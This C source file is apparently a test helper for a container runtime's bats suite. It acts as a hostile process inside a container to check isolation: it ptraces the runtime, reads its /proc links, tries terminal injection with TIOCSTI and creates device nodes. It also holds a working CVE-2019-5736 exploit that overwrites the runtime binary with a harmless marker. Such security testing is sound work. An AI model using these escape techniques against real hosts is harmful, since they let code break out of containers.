// SPDX-License-Identifier: Apache-2.0
/*
 * inside COMMAND: what runtime.bats lets a hostile process do in a container, where a shell is too slow or cannot. One static file.
 *
 *   fds                  descriptors above 2 that this process was started with, one a line
 *   hunt SECONDS         tries to trace, or to look into, every process that is still the runtime; prints what it reached
 *   find-key             looks for the key that with-key made; prints "found" or "none"
 *   with-key COMMAND...  executes COMMAND with a session keyring that holds the key
 *   tty-inject           TIOCSTI (also with bits above the 32nd) and TIOCLINUX on standard input: names of the errors
 *   node TYPE MAJ MIN    makes a device node in /tmp and opens it: "made", "opened" or the errors' names
 *   exe-readonly PID     is /proc/PID/exe on a read-only mount? "yes" or "no"
 *   overwrite FIFO       CVE-2019-5736: takes hold of the file of the process that waits for FIFO, lets it end, writes to the file
 *   hold-session         prints its session id, and whether it has a controlling terminal
 *   clocks               CLOCK_BOOTTIME and CLOCK_MONOTONIC in seconds
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

#define RUNTIME "oakum-runtime"
#define KEY "oakum-test-key"

static int command_fds(char **args)
{
    struct stat st;
    (void) args;
    for (int fd = 3; fd < 1024; fd++)
        if (fstat(fd, &st) == 0)
            printf("%d\n", fd);
    return 0;
}

/* ---- hunt ---- */

static void read_comm(const char *pid, char *buf, size_t size)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%.20s/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? 0 : read(fd, buf, size - 1);
    buf[n > 0 ? n : 0] = '\0';
    buf[strcspn(buf, "\n")] = '\0';
    if (fd >= 0)
        close(fd);
}

static void look_into(const char *pid)
{
    static const char *const names[] = { "exe", "root", "fd/3", "fd/5", "fd/7", "fd/9" };
    char path[64], link[256], comm[32];
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        snprintf(path, sizeof(path), "/proc/%.20s/%s", pid, names[i]);
        if (readlink(path, link, sizeof(link)) <= 0)
            continue;
        read_comm(pid, comm, sizeof(comm)); /* still the runtime now, so it was when the link was read */
        if (strcmp(comm, RUNTIME) == 0)
            printf("read %s of the runtime\n", names[i]);
    }
}

/*
 * Who is still the runtime behind a seizure that succeeded was it before. (An exec event would prove nothing: it comes when the
 * new program may be traced already.) Nobody gets a signal, so that what is asked to run in the meantime does.
 */
static void trace(pid_t pid)
{
    char text[16], comm[32];
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return;
    snprintf(text, sizeof(text), "%d", (int) pid);
    read_comm(text, comm, sizeof(comm));
    if (strcmp(comm, RUNTIME) == 0)
        printf("traced the runtime\n");
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static int command_hunt(char **args)
{
    time_t end = time(NULL) + atoi(args[0]);
    unsigned long seen = 0;
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        for (struct dirent *e = readdir(proc); e; e = readdir(proc)) {
            char comm[32];
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
                continue;
            read_comm(e->d_name, comm, sizeof(comm));
            if (strcmp(comm, RUNTIME) != 0)
                continue;
            seen++;
            look_into(e->d_name);
            trace(atoi(e->d_name));
        }
        closedir(proc);
    }
    printf("seen %s\n", seen > 0 ? "some" : "none");
    return 0;
}

/* ---- keys ---- */

static int command_find_key(char **args)
{
    (void) args;
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", KEY, 0);
    printf("%s\n", key >= 0 ? "found" : "none");
    return 0;
}

static int command_with_key(char **args)
{
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
        syscall(SYS_add_key, "user", KEY, "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) {
        perror("key");
        return 2;
    }
    execvp(args[0], args);
    perror(args[0]);
    return 2;
}

/* ---- terminals, devices ---- */

static void say_result(const char *what, long result)
{
    printf("%s %s\n", what, result >= 0 ? "done" : strerrorname_np(errno));
}

static int command_tty_inject(char **args)
{
    char c = 'x', sub[2] = { 2, 0 };
    (void) args;
    say_result("TIOCSTI", syscall(SYS_ioctl, 0, TIOCSTI, &c));
    say_result("TIOCSTI+high", syscall(SYS_ioctl, 0, TIOCSTI | (1UL << 32), &c));
    say_result("TIOCLINUX", syscall(SYS_ioctl, 0, TIOCLINUX, sub));
    return 0;
}

static int command_node(char **args)
{
    mode_t type = args[0][0] == 'b' ? S_IFBLK : S_IFCHR;
    unlink("/tmp/node");
    int r = mknod("/tmp/node", type | 0666, makedev((unsigned) atoi(args[1]), (unsigned) atoi(args[2])));
    say_result("made", r);
    if (r == 0)
        say_result("opened", open("/tmp/node", O_RDWR | O_NONBLOCK));
    return 0;
}

static int command_hold_session(char **args)
{
    (void) args;
    printf("session %d terminal %s\n", (int) getsid(0),
           open("/dev/tty", O_RDWR | O_CLOEXEC) < 0 ? "none" : "some");
    return 0;
}

/* ---- the runtime's file ---- */

static int command_exe_readonly(char **args)
{
    char path[64];
    struct statvfs st;
    snprintf(path, sizeof(path), "/proc/%.20s/exe", args[0]);
    if (statvfs(path, &st) < 0) {
        perror(path);
        return 2;
    }
    printf("%s\n", st.f_flag & ST_RDONLY ? "yes" : "no");
    return 0;
}

static int find_runtime(void)
{
    for (int pid = 2; pid < 1000; pid++) {
        char path[64], text[16], comm[32];
        snprintf(text, sizeof(text), "%d", pid);
        read_comm(text, comm, sizeof(comm));
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        if (pid != getpid() && (strcmp(comm, "exe") == 0 || strcmp(comm, RUNTIME) == 0))
            return open(path, O_PATH | O_CLOEXEC);
    }
    return -1;
}

static int command_overwrite(char **args)
{
    char path[64];
    int held = find_runtime(), fd = -1;
    if (held < 0) {
        printf("nothing to take hold of\n");
        return 2;
    }
    close(open(args[0], O_RDWR | O_NONBLOCK)); /* it goes on, and ends */
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    for (int i = 0; i < 200 && fd < 0; i++) { /* ETXTBSY until then */
        fd = open(path, O_WRONLY | O_APPEND);
        if (fd < 0 && errno != ETXTBSY)
            break;
        usleep(10000);
    }
    say_result("overwrite", fd < 0 ? -1 : write(fd, "owned", 5));
    return 0;
}

static int command_clocks(char **args)
{
    struct timespec boot, mono;
    (void) args;
    clock_gettime(CLOCK_BOOTTIME, &boot);
    clock_gettime(CLOCK_MONOTONIC, &mono);
    printf("%lld %lld\n", (long long) boot.tv_sec, (long long) mono.tv_sec);
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int args;
        int (*run)(char **args);
    } commands[] = {
        { "fds", 0, command_fds },
        { "hunt", 1, command_hunt },
        { "find-key", 0, command_find_key },
        { "with-key", 1, command_with_key },
        { "tty-inject", 0, command_tty_inject },
        { "node", 3, command_node },
        { "hold-session", 0, command_hold_session },
        { "exe-readonly", 1, command_exe_readonly },
        { "overwrite", 1, command_overwrite },
        { "clocks", 0, command_clocks },
    };
    for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++)
        if (strcmp(argv[1], commands[i].name) == 0 && argc - 2 >= commands[i].args) {
            setvbuf(stdout, NULL, _IOLBF, 0);
            return commands[i].run(argv + 2);
        }
    fprintf(stderr, "inside: wrong use\n");
    return 2;
}
